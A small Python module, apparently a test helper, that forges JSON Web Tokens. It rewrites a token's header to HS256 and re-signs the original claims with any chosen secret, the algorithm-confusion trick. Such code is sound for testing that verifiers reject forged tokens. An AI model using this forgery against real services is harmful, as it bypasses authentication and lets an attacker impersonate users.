"""Tokens as an attacker makes them, past what the library refuses to sign."""

import base64
import hmac
import json


def forge(token: str, secret: bytes) -> str:
    """Return a token's claims and key id under HS256, with any secret."""
    header, claims, _ = token.split(".")
    said: dict[str, object] = json.loads(base64.urlsafe_b64decode(header + "=="))
    signed = f"{_encoded(json.dumps({**said, 'alg': 'HS256'}).encode())}.{claims}"
    return f"{signed}.{_encoded(hmac.digest(secret, signed.encode(), 'sha256'))}"


def _encoded(text: bytes) -> str:
    return base64.urlsafe_b64encode(text).decode().rstrip("=")
